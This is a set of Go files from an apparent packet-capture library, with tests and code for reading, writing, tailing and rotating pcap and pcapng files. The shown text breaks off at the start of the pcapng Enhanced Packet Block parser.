	ts := time.Date(2021, 12, 10, 3, 14, 15, 926535000, time.UTC)
	payloads := [][]byte{
		[]byte("first"),
		{},
		bytes.Repeat([]byte{0xab}, 1500),
	}
	for i, p := range payloads {
		if err := w.WritePacket(ts.Add(time.Duration(i)*time.Second), p); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}

	r, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if r.LinkType() != LinkTypeEthernet {
		t.Errorf("LinkType = %d, want %d", r.LinkType(), LinkTypeEthernet)
	}
	if r.NanoPrecision() != nano {
		t.Errorf("NanoPrecision = %v, want %v", r.NanoPrecision(), nano)
	}
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(payloads) {
		t.Fatalf("read %d packets, want %d", len(got), len(payloads))
	}
	for i, p := range got {
		if !bytes.Equal(p.Data, payloads[i]) {
			t.Errorf("packet %d data mismatch", i)
		}
		want := ts.Add(time.Duration(i) * time.Second)
		if !nano {
			want = want.Truncate(time.Microsecond)
		}
		if !p.Timestamp.Equal(want) {
			t.Errorf("packet %d timestamp = %v, want %v", i, p.Timestamp, want)
		}
		if p.OrigLen != len(payloads[i]) {
			t.Errorf("packet %d OrigLen = %d, want %d", i, p.OrigLen, len(payloads[i]))
		}
	}
}

func TestSnaplenTruncation(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewWriter(&buf, LinkTypeEthernet, WithSnaplen(10))
	if err != nil {
		t.Fatal(err)
	}
	data := bytes.Repeat([]byte{0x01}, 100)
	if err := w.WritePacket(time.Unix(0, 0), data); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.Next()
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Data) != 10 {
		t.Errorf("captured %d bytes, want 10", len(p.Data))
	}
	if p.OrigLen != 100 {
		t.Errorf("OrigLen = %d, want 100", p.OrigLen)
	}
}

func TestBadMagic(t *testing.T) {
	data := make([]byte, fileHeaderLen)
	if _, err := NewReader(bytes.NewReader(data)); err == nil {
		t.Error("NewReader accepted zero magic")
	}
}

func TestBigEndianRead(t *testing.T) {
	// Hand-construct a big-endian microsecond pcap with one 4-byte record.
	var buf bytes.Buffer
	hdr := make([]byte, fileHeaderLen)
	binary.BigEndian.PutUint32(hdr[0:4], magicMicro)
	binary.BigEndian.PutUint16(hdr[4:6], versionMajor)
	binary.BigEndian.PutUint16(hdr[6:8], versionMinor)
	binary.BigEndian.PutUint32(hdr[16:20], 65535)
	binary.BigEndian.PutUint32(hdr[20:24], LinkTypeRaw)
	buf.Write(hdr)
	rec := make([]byte, recordHeaderLen)
	binary.BigEndian.PutUint32(rec[0:4], 1639100000)
	binary.BigEndian.PutUint32(rec[4:8], 123456)
	binary.BigEndian.PutUint32(rec[8:12], 4)
	binary.BigEndian.PutUint32(rec[12:16], 4)
	buf.Write(rec)
	buf.Write([]byte{1, 2, 3, 4})

	r, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if r.LinkType() != LinkTypeRaw {
		t.Errorf("LinkType = %d, want %d", r.LinkType(), LinkTypeRaw)
	}
	p, err := r.Next()
	if err != nil {
		t.Fatal(err)
	}
	want := time.Unix(1639100000, 123456000).UTC()
	if !p.Timestamp.Equal(want) {
		t.Errorf("Timestamp = %v, want %v", p.Timestamp, want)
	}
	if !bytes.Equal(p.Data, []byte{1, 2, 3, 4}) {
		t.Errorf("Data = %v", p.Data)
	}
	if _, err := r.Next(); err != io.EOF {
		t.Errorf("expected EOF, got %v", err)
	}
}

func TestTruncatedRecordBody(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewWriter(&buf, LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WritePacket(time.Unix(1, 0), []byte("hello world")); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	// Chop off the last 3 bytes of the record body.
	trunc := buf.Bytes()[:buf.Len()-3]
	r, err := NewReader(bytes.NewReader(trunc))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); err == nil {
		t.Error("Next succeeded on truncated record")
	}
}

func TestTruncatedRecordHeader(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, LinkTypeEthernet)
	_ = w.Flush()
	// Append half a record header.
	data := append(buf.Bytes(), make([]byte, recordHeaderLen/2)...)
	r, err := NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); err == nil || err == io.EOF {
		t.Errorf("Next on half header = %v, want a short-record error", err)
	}
}

func TestCaplenExceedsSnaplenRejected(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, LinkTypeEthernet, WithSnaplen(8))
	_ = w.Flush()
	rec := make([]byte, recordHeaderLen)
	binary.LittleEndian.PutUint32(rec[8:12], 100) // caplen 100 > snaplen 8
	binary.LittleEndian.PutUint32(rec[12:16], 100)
	data := append(buf.Bytes(), rec...)
	data = append(data, make([]byte, 100)...)
	r, err := NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); err == nil {
		t.Error("Next accepted caplen > snaplen")
	}
}

func TestEmptyFile(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, LinkTypeEthernet)
	_ = w.Flush()
	r, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	pkts, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(pkts) != 0 {
		t.Errorf("read %d packets from empty file", len(pkts))
	}
}

// Property: any sequence of packets round-trips with data intact and
// timestamps preserved to the file's precision.
func TestRoundTripProperty(t *testing.T) {
	f := func(payloads [][]byte, secs []uint32) bool {
		var buf bytes.Buffer
		w, err := NewWriter(&buf, LinkTypeEthernet, WithNanoPrecision())
		if err != nil {
			return false
		}
		for i, p := range payloads {
			var sec uint32
			if i < len(secs) {
				sec = secs[i]
			}
			if err := w.WritePacket(time.Unix(int64(sec), int64(i)).UTC(), p); err != nil {
				return false
			}
		}
		if err := w.Flush(); err != nil {
			return false
		}
		r, err := NewReader(bytes.NewReader(buf.Bytes()))
		if err != nil {
			return false
		}
		got, err := r.ReadAll()
		if err != nil || len(got) != len(payloads) {
			return false
		}
		for i := range got {
			if !bytes.Equal(got[i].Data, payloads[i]) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func BenchmarkWritePacket(b *testing.B) {
	w, err := NewWriter(io.Discard, LinkTypeEthernet)
	if err != nil {
		b.Fatal(err)
	}
	data := bytes.Repeat([]byte{0x55}, 600)
	ts := time.Unix(1639100000, 0)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := w.WritePacket(ts, data); err != nil {
			b.Fatal(err)
		}
	}
}
