package pcapio

import (
	"bytes"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// writeTestCapture writes n classic-pcap records of varying sizes and
// returns the file bytes plus the expected packets.
func writeTestCapture(t *testing.T, n int) ([]byte, []Packet) {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, LinkTypeEthernet, WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2021, 3, 1, 12, 0, 0, 0, time.UTC)
	var want []Packet
	for i := 0; i < n; i++ {
		data := bytes.Repeat([]byte{byte(i)}, 20+(i*37)%400)
		ts := base.Add(time.Duration(i) * time.Millisecond)
		if err := w.WritePacket(ts, data); err != nil {
			t.Fatal(err)
		}
		want = append(want, Packet{Timestamp: ts, OrigLen: len(data), Data: data})
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), want
}

func checkSame(t *testing.T, i int, got, want Packet) {
	t.Helper()
	if !got.Timestamp.Equal(want.Timestamp) {
		t.Fatalf("record %d: timestamp %v, want %v", i, got.Timestamp, want.Timestamp)
	}
	if got.OrigLen != want.OrigLen {
		t.Fatalf("record %d: origlen %d, want %d", i, got.OrigLen, want.OrigLen)
	}
	if !bytes.Equal(got.Data, want.Data) {
		t.Fatalf("record %d: data mismatch (%d vs %d bytes)", i, len(got.Data), len(want.Data))
	}
}

// TestReaderNextIntoReusesBuffer: NextInto must return the same records as
// Next while reusing one buffer across records once it has grown.
func TestReaderNextIntoReusesBuffer(t *testing.T) {
	raw, want := writeTestCapture(t, 24)
	r, err := NewReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	p := Packet{Data: make([]byte, 0, 512)}
	backing := &p.Data[:1][0]
	for i := 0; ; i++ {
		err := r.NextInto(&p)
		if err == io.EOF {
			if i != len(want) {
				t.Fatalf("got %d records, want %d", i, len(want))
			}
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		checkSame(t, i, p, want[i])
		if &p.Data[0] != backing {
			t.Fatalf("record %d: NextInto reallocated despite sufficient capacity", i)
		}
	}
}

// TestNgReaderNextIntoMatchesNext holds the pcapng zero-copy path to the
// allocating one.
func TestNgReaderNextIntoMatchesNext(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewNgWriter(&buf, LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2022, 6, 1, 0, 0, 0, 0, time.UTC)
	for i := 0; i < 16; i++ {
		if err := w.WritePacket(base.Add(time.Duration(i)*time.Second), bytes.Repeat([]byte{byte(i)}, 10+i*13)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}

	plain, err := NewNgReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	zero, err := NewNgReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	var p Packet
	for i := 0; ; i++ {
		want, werr := plain.Next()
		gerr := zero.NextInto(&p)
		if (werr == nil) != (gerr == nil) {
			t.Fatalf("record %d: Next err %v, NextInto err %v", i, werr, gerr)
		}
		if werr == io.EOF {
			break
		}
		if werr != nil {
			t.Fatal(werr)
		}
		checkSame(t, i, p, want)
	}
}

// TestTailReaderNextIntoIncremental: the zero-copy tail path must retain
// its position across io.EOF exactly like Next.
func TestTailReaderNextIntoIncremental(t *testing.T) {
	raw, want := writeTestCapture(t, 6)
	path := filepath.Join(t.TempDir(), "seg.pcap")
	// Land only half the file first; the tail must stop cleanly mid-record.
	half := len(raw) / 2
	if err := os.WriteFile(path, raw[:half], 0o644); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr := NewTailReader(f)
	var p Packet
	got := 0
	for {
		if err := tr.NextInto(&p); err == io.EOF {
			break
		} else if err != nil {
			t.Fatal(err)
		}
		checkSame(t, got, p, want[got])
		got++
	}
	if got == len(want) {
		t.Fatal("expected a partial read before the rest of the file lands")
	}
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	for {
		if err := tr.NextInto(&p); err == io.EOF {
			break
		} else if err != nil {
			t.Fatal(err)
		}
		checkSame(t, got, p, want[got])
		got++
	}
	if got != len(want) {
		t.Fatalf("got %d records total, want %d", got, len(want))
	}
}

// TestMultiSourceNextInto replays rotated segments through the zero-copy
// interface and checks record identity with the allocating path.
func TestMultiSourceNextInto(t *testing.T) {
	dir := t.TempDir()
	rw, err := NewRotatingWriter(dir, "zc", LinkTypeEthernet, 2048)
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2021, 9, 1, 0, 0, 0, 0, time.UTC)
	for i := 0; i < 40; i++ {
		if err := rw.WritePacket(base.Add(time.Duration(i)*time.Second), bytes.Repeat([]byte{byte(i)}, 100)); err != nil {
			t.Fatal(err)
		}
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	files := rw.Files()
	if len(files) < 2 {
		t.Fatalf("want multiple segments, got %d", len(files))
	}

	plain, err := OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer plain.Close()
	zero, err := OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer zero.Close()
	var p Packet
	for i := 0; ; i++ {
		want, werr := plain.Next()
		gerr := zero.NextInto(&p)
		if (werr == nil) != (gerr == nil) {
			t.Fatalf("record %d: Next err %v, NextInto err %v", i, werr, gerr)
		}
		if werr == io.EOF {
			break
		}
		if werr != nil {
			t.Fatal(werr)
		}
		checkSame(t, i, p, want)
	}
}
