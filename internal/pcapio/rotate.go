package pcapio

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"time"
)

// Capture-file management. Long-running deployments rotate captures into
// size-bounded segments (DSCOPE produced terabytes over two years); the
// rotating writer produces them and the multi-file source replays them in
// order through the same post-facto pipeline.

// RotatingWriter writes classic pcap segments capture-000001.pcap,
// capture-000002.pcap, ... under a directory, starting a new segment when
// the current one would exceed MaxBytes.
type RotatingWriter struct {
	dir      string
	prefix   string
	linkType uint32
	maxBytes int64
	opts     []WriterOption

	seq   int
	size  int64
	file  *os.File
	w     *Writer
	files []string
}

// NewRotatingWriter creates the directory if needed. maxBytes bounds each
// segment (minimum one packet per segment regardless of size).
func NewRotatingWriter(dir, prefix string, linkType uint32, maxBytes int64, opts ...WriterOption) (*RotatingWriter, error) {
	if maxBytes <= 0 {
		return nil, fmt.Errorf("pcapio: rotating writer needs positive maxBytes, got %d", maxBytes)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	return &RotatingWriter{
		dir: dir, prefix: prefix, linkType: linkType, maxBytes: maxBytes, opts: opts,
	}, nil
}

func (r *RotatingWriter) rotate() error {
	if err := r.closeCurrent(); err != nil {
		return err
	}
	r.seq++
	name := filepath.Join(r.dir, fmt.Sprintf("%s-%06d.pcap", r.prefix, r.seq))
	f, err := os.Create(name)
	if err != nil {
		return err
	}
	w, err := NewWriter(f, r.linkType, r.opts...)
	if err != nil {
		f.Close()
		return err
	}
	r.file, r.w, r.size = f, w, fileHeaderLen
	r.files = append(r.files, name)
	return nil
}

func (r *RotatingWriter) closeCurrent() error {
	if r.w == nil {
		return nil
	}
	if err := r.w.Flush(); err != nil {
		return err
	}
	err := r.file.Close()
	r.file, r.w = nil, nil
	return err
}

// WritePacket appends one record, rotating first if the segment is full.
func (r *RotatingWriter) WritePacket(ts time.Time, data []byte) error {
	recSize := int64(recordHeaderLen + len(data))
	if r.w == nil || (r.size > fileHeaderLen && r.size+recSize > r.maxBytes) {
		if err := r.rotate(); err != nil {
			return err
		}
	}
	if err := r.w.WritePacket(ts, data); err != nil {
		return err
	}
	r.size += recSize
	return nil
}

// Flush flushes the current segment (satisfies telescope.PacketWriter).
func (r *RotatingWriter) Flush() error {
	if r.w == nil {
		return nil
	}
	return r.w.Flush()
}

// Close finishes the current segment.
func (r *RotatingWriter) Close() error { return r.closeCurrent() }

// Files lists the segments written so far, in order.
func (r *RotatingWriter) Files() []string {
	return append([]string(nil), r.files...)
}

// multiFileSource replays capture files sequentially.
type multiFileSource struct {
	paths []string
	idx   int
	cur   PacketSource
	file  *os.File
}

// OpenFiles returns a PacketSource that replays the given capture files
// (pcap or pcapng, independently sniffed) in order. Close releases the
// current file.
func OpenFiles(paths ...string) (*MultiSource, error) {
	if len(paths) == 0 {
		return nil, fmt.Errorf("pcapio: no capture files")
	}
	sorted := append([]string(nil), paths...)
	sort.Strings(sorted)
	return &MultiSource{src: multiFileSource{paths: sorted}}, nil
}

// MultiSource is the sequential multi-file PacketSource.
type MultiSource struct {
	src multiFileSource
}

// Next returns the next packet across all files, or io.EOF after the last.
func (m *MultiSource) Next() (Packet, error) {
	var p Packet
	if err := m.NextInto(&p); err != nil {
		return Packet{}, err
	}
	return p, nil
}

// NextInto is Next into a caller-owned Packet, reusing its Data capacity.
// OpenCapture always yields zero-copy sources, so the fast path is hit for
// every file this package can open.
func (m *MultiSource) NextInto(p *Packet) error {
	for {
		if m.src.cur == nil {
			if m.src.idx >= len(m.src.paths) {
				return io.EOF
			}
			f, err := os.Open(m.src.paths[m.src.idx])
			if err != nil {
				return err
			}
			src, err := OpenCapture(f)
			if err != nil {
				f.Close()
				return fmt.Errorf("pcapio: %s: %w", m.src.paths[m.src.idx], err)
			}
			m.src.file, m.src.cur = f, src
			m.src.idx++
		}
		var err error
		if zc, ok := m.src.cur.(ZeroCopySource); ok {
			err = zc.NextInto(p)
		} else {
			var pkt Packet
			pkt, err = m.src.cur.Next()
			if err == nil {
				growData(p, len(pkt.Data))
				copy(p.Data, pkt.Data)
				p.Timestamp, p.OrigLen = pkt.Timestamp, pkt.OrigLen
			}
		}
		if err == io.EOF {
			m.src.file.Close()
			m.src.cur, m.src.file = nil, nil
			continue
		}
		return err
	}
}

// Close releases the currently open file, if any.
func (m *MultiSource) Close() error {
	if m.src.file != nil {
		err := m.src.file.Close()
		m.src.file, m.src.cur = nil, nil
		return err
	}
	return nil
}
