package pcapio

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// TestTailReaderIncremental grows a capture file in stages — partial header,
// full header, partial record, full record — and checks the tailer returns
// io.EOF without losing position until each piece completes.
func TestTailReaderIncremental(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "grow.pcap")

	// Render a complete two-record capture into memory first.
	var full bytes.Buffer
	w, err := NewWriter(&full, LinkTypeEthernet, WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	p1 := bytes.Repeat([]byte{0xaa}, 60)
	p2 := bytes.Repeat([]byte{0xbb}, 90)
	if err := w.WritePacket(time.Unix(10, 500), p1); err != nil {
		t.Fatal(err)
	}
	if err := w.WritePacket(time.Unix(11, 0), p2); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	raw := full.Bytes()

	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rf, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer rf.Close()
	tr := NewTailReader(rf)

	grow := func(upto int) {
		t.Helper()
		cur, err := f.Seek(0, io.SeekEnd)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(raw[cur:upto]); err != nil {
			t.Fatal(err)
		}
	}
	expectEOF := func(stage string) {
		t.Helper()
		if _, err := tr.Next(); err != io.EOF {
			t.Fatalf("%s: err = %v, want io.EOF", stage, err)
		}
	}

	expectEOF("empty file")
	grow(fileHeaderLen - 4)
	expectEOF("partial header")
	grow(fileHeaderLen + recordHeaderLen - 2)
	expectEOF("partial record header")
	grow(fileHeaderLen + recordHeaderLen + len(p1) - 1)
	expectEOF("partial record body")
	grow(fileHeaderLen + recordHeaderLen + len(p1))
	pkt, err := tr.Next()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(pkt.Data, p1) || !pkt.Timestamp.Equal(time.Unix(10, 500).UTC()) {
		t.Fatalf("first record = %d bytes @ %v", len(pkt.Data), pkt.Timestamp)
	}
	expectEOF("after first record")
	grow(len(raw))
	pkt, err = tr.Next()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(pkt.Data, p2) {
		t.Fatalf("second record = %d bytes", len(pkt.Data))
	}
	expectEOF("fully consumed")
	if rem, err := tr.Remainder(); err != nil || rem != 0 {
		t.Fatalf("remainder = %d, %v", rem, err)
	}
	if tr.LinkType() != LinkTypeEthernet {
		t.Fatalf("link type = %d", tr.LinkType())
	}
}

func TestTailReaderRemainderDetectsTornTail(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "torn.pcap")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w, err := NewWriter(f, LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WritePacket(time.Unix(1, 0), []byte("complete")); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	// Simulate a crash mid-record: a bare half record header.
	if _, err := f.Write([]byte{1, 2, 3, 4, 5}); err != nil {
		t.Fatal(err)
	}
	f.Close()

	rf, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer rf.Close()
	tr := NewTailReader(rf)
	if _, err := tr.Next(); err != nil {
		t.Fatal(err)
	}
	if _, err := tr.Next(); err != io.EOF {
		t.Fatalf("torn tail err = %v, want io.EOF", err)
	}
	rem, err := tr.Remainder()
	if err != nil {
		t.Fatal(err)
	}
	if rem != 5 {
		t.Fatalf("remainder = %d, want 5", rem)
	}
}

func TestTailReaderBadMagicIsPermanent(t *testing.T) {
	path := filepath.Join(t.TempDir(), "junk.pcap")
	if err := os.WriteFile(path, bytes.Repeat([]byte{0xff}, 64), 0o644); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr := NewTailReader(f)
	if _, err := tr.Next(); !errors.Is(err, ErrBadMagic) {
		t.Fatalf("err = %v, want ErrBadMagic", err)
	}
}

func TestSegmentsListsInWriteOrder(t *testing.T) {
	dir := t.TempDir()
	rw, err := NewRotatingWriter(dir, "cap", LinkTypeEthernet, 64)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 11; i++ {
		if err := rw.WritePacket(time.Unix(int64(i), 0), make([]byte, 200)); err != nil {
			t.Fatal(err)
		}
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	// A decoy with a different prefix must not be listed.
	if err := os.WriteFile(filepath.Join(dir, "other-000001.pcap"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	segs, err := Segments(dir, "cap")
	if err != nil {
		t.Fatal(err)
	}
	want := rw.Files()
	if len(segs) != len(want) {
		t.Fatalf("Segments = %d files, writer produced %d", len(segs), len(want))
	}
	for i := range segs {
		if segs[i] != want[i] {
			t.Fatalf("segment %d: %s != %s", i, segs[i], want[i])
		}
	}
}
