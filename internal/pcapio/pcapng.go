package pcapio

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"time"
)

// pcapng support: the next-generation capture format (Section Header Block,
// Interface Description Block, Enhanced Packet Block). Real deployments
// increasingly store pcapng, so the post-facto replay path reads both
// formats; writing is supported for interchange with standard tooling.
//
// The implementation covers the single-section, single-interface captures
// the telescope produces. Unknown block types are skipped on read, per the
// specification.

// pcapng block types.
const (
	blockSHB = 0x0A0D0D0A // Section Header Block
	blockIDB = 0x00000001 // Interface Description Block
	blockEPB = 0x00000006 // Enhanced Packet Block
	blockSPB = 0x00000003 // Simple Packet Block
)

const byteOrderMagic = 0x1A2B3C4D

// ErrNotPcapng marks input without a Section Header Block.
var ErrNotPcapng = errors.New("pcapio: not a pcapng file")

// NgWriter writes a pcapng capture with one interface.
type NgWriter struct {
	w       *bufio.Writer
	snaplen uint32
}

// NewNgWriter emits the Section Header and Interface Description blocks.
// Timestamps are written at nanosecond resolution (if_tsresol = 9).
func NewNgWriter(w io.Writer, linkType uint32) (*NgWriter, error) {
	nw := &NgWriter{w: bufio.NewWriter(w), snaplen: 262144}

	// Section Header Block: type, len, byte-order magic, version 1.0,
	// section length -1 (unknown), trailing len.
	shb := make([]byte, 28)
	binary.LittleEndian.PutUint32(shb[0:4], blockSHB)
	binary.LittleEndian.PutUint32(shb[4:8], 28)
	binary.LittleEndian.PutUint32(shb[8:12], byteOrderMagic)
	binary.LittleEndian.PutUint16(shb[12:14], 1) // major
	binary.LittleEndian.PutUint16(shb[14:16], 0) // minor
	binary.LittleEndian.PutUint64(shb[16:24], 0xFFFFFFFFFFFFFFFF)
	binary.LittleEndian.PutUint32(shb[24:28], 28)
	if _, err := nw.w.Write(shb); err != nil {
		return nil, fmt.Errorf("pcapio: writing SHB: %w", err)
	}

	// Interface Description Block with an if_tsresol=9 option.
	// Option: code 9, length 1, value 9, 3 pad bytes; then opt_endofopt.
	idb := make([]byte, 32)
	binary.LittleEndian.PutUint32(idb[0:4], blockIDB)
	binary.LittleEndian.PutUint32(idb[4:8], 32)
	binary.LittleEndian.PutUint16(idb[8:10], uint16(linkType))
	// reserved [10:12]
	binary.LittleEndian.PutUint32(idb[12:16], nw.snaplen)
	binary.LittleEndian.PutUint16(idb[16:18], 9) // if_tsresol
	binary.LittleEndian.PutUint16(idb[18:20], 1)
	idb[20] = 9 // 10^-9 seconds
	// [21:24] pad
	// opt_endofopt: code 0 len 0 at [24:28]
	binary.LittleEndian.PutUint32(idb[28:32], 32)
	if _, err := nw.w.Write(idb); err != nil {
		return nil, fmt.Errorf("pcapio: writing IDB: %w", err)
	}
	return nw, nil
}

// WritePacket appends one Enhanced Packet Block.
func (w *NgWriter) WritePacket(ts time.Time, data []byte) error {
	if uint32(len(data)) > w.snaplen {
		data = data[:w.snaplen]
	}
	pad := (4 - len(data)%4) % 4
	blockLen := 32 + len(data) + pad
	hdr := make([]byte, 28)
	binary.LittleEndian.PutUint32(hdr[0:4], blockEPB)
	binary.LittleEndian.PutUint32(hdr[4:8], uint32(blockLen))
	binary.LittleEndian.PutUint32(hdr[8:12], 0) // interface 0
	nanos := uint64(ts.UnixNano())
	binary.LittleEndian.PutUint32(hdr[12:16], uint32(nanos>>32))
	binary.LittleEndian.PutUint32(hdr[16:20], uint32(nanos))
	binary.LittleEndian.PutUint32(hdr[20:24], uint32(len(data)))
	binary.LittleEndian.PutUint32(hdr[24:28], uint32(len(data)))
	if _, err := w.w.Write(hdr); err != nil {
		return err
	}
	if _, err := w.w.Write(data); err != nil {
		return err
	}
	if pad > 0 {
		if _, err := w.w.Write(make([]byte, pad)); err != nil {
			return err
		}
	}
	var trailer [4]byte
	binary.LittleEndian.PutUint32(trailer[:], uint32(blockLen))
	_, err := w.w.Write(trailer[:])
	return err
}

// Flush flushes buffered blocks.
func (w *NgWriter) Flush() error { return w.w.Flush() }

// NgReader reads a pcapng capture (single section; multiple interfaces are
// tolerated but all packets are returned in file order).
type NgReader struct {
	r        *bufio.Reader
	order    binary.ByteOrder
	linkType uint32
	tsresol  []time.Duration // per-interface tick duration
	buf      []byte          // reused block-body scratch for NextInto
}

// NewNgReader parses the Section Header Block.
func NewNgReader(r io.Reader) (*NgReader, error) {
	nr := &NgReader{r: bufio.NewReader(r)}
	var head [12]byte
	if _, err := io.ReadFull(nr.r, head[:]); err != nil {
		return nil, fmt.Errorf("pcapio: reading SHB: %w", err)
	}
	if binary.LittleEndian.Uint32(head[0:4]) != blockSHB {
		return nil, ErrNotPcapng
	}
	switch {
	case binary.LittleEndian.Uint32(head[8:12]) == byteOrderMagic:
		nr.order = binary.LittleEndian
	case binary.BigEndian.Uint32(head[8:12]) == byteOrderMagic:
		nr.order = binary.BigEndian
	default:
		return nil, fmt.Errorf("%w: bad byte-order magic", ErrNotPcapng)
	}
	blockLen := nr.order.Uint32(head[4:8])
	if blockLen < 28 || blockLen%4 != 0 {
		return nil, fmt.Errorf("pcapio: SHB length %d invalid", blockLen)
	}
	// Skip the rest of the SHB (version, section length, options, trailer).
	if _, err := io.CopyN(io.Discard, nr.r, int64(blockLen-12)); err != nil {
		return nil, fmt.Errorf("pcapio: skipping SHB body: %w", err)
	}
	return nr, nil
}

// LinkType returns the first interface's link type (0 before any IDB).
func (r *NgReader) LinkType() uint32 { return r.linkType }

// Next returns the next packet, skipping non-packet blocks, or io.EOF. The
// returned Data is freshly allocated and owned by the caller.
func (r *NgReader) Next() (Packet, error) {
	var p Packet
	if err := r.NextInto(&p); err != nil {
		return Packet{}, err
	}
	return p, nil
}

// NextInto is Next into a caller-owned Packet: block bodies land in an
// internal scratch buffer and the packet bytes are copied into p.Data,
// reusing its capacity. Steady-state reads allocate nothing. On a non-nil
// error the contents of p are unspecified.
func (r *NgReader) NextInto(p *Packet) error {
	for {
		var head [8]byte
		if _, err := io.ReadFull(r.r, head[:]); err != nil {
			if err == io.EOF {
				return io.EOF
			}
			return fmt.Errorf("pcapio: reading block header: %w", err)
		}
		blockType := r.order.Uint32(head[0:4])
		blockLen := r.order.Uint32(head[4:8])
		if blockLen < 12 || blockLen%4 != 0 || blockLen > maxRecordBytes {
			return fmt.Errorf("pcapio: block length %d invalid", blockLen)
		}
		bodyLen := int(blockLen - 12)
		if cap(r.buf) < bodyLen {
			r.buf = make([]byte, bodyLen)
		}
		body := r.buf[:bodyLen]
		if _, err := io.ReadFull(r.r, body); err != nil {
			return fmt.Errorf("pcapio: %w: %v", ErrShortRecord, err)
		}
		var trailer [4]byte
		if _, err := io.ReadFull(r.r, trailer[:]); err != nil {
			return fmt.Errorf("pcapio: %w: missing trailer", ErrShortRecord)
		}
		if r.order.Uint32(trailer[:]) != blockLen {
			return fmt.Errorf("pcapio: block trailer mismatch")
		}
		switch blockType {
		case blockIDB:
			if len(body) < 8 {
				return fmt.Errorf("pcapio: IDB too short")
			}
			if len(r.tsresol) == 0 {
				r.linkType = uint32(r.order.Uint16(body[0:2]))
			}
			r.tsresol = append(r.tsresol, parseTsresol(body[8:], r.order))
		case blockEPB:
			return r.parseEPBInto(p, body)
		case blockSPB:
			// Simple Packet Block: original length then data, no timestamp.
			if len(body) < 4 {
				return fmt.Errorf("pcapio: SPB too short")
			}
			origLen := int(r.order.Uint32(body[0:4]))
			data := body[4:]
			if origLen < len(data) {
				data = data[:origLen]
			}
			growData(p, len(data))
			copy(p.Data, data)
			p.Timestamp = time.Unix(0, 0).UTC()
			p.OrigLen = origLen
			return nil
		default:
			// Unknown block: skip (already consumed).
		}
	}
}

func (r *NgReader) parseEPBInto(p *Packet, body []byte) error {
